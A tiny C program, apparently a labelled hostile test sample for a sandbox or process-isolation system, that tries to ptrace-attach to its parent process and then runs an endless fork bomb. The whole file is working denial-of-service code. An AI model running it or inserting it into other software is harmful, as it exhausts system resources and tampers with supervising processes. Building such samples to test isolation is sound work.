/* Hostile: tries to attach to its parent with ptrace, then to fork-bomb. */
#include <stdio.h>
#include <sys/ptrace.h>
#include <unistd.h>

int main(void)
{
        ptrace(PTRACE_ATTACH, getppid(), NULL, NULL);
        for (;;)
                fork();
}
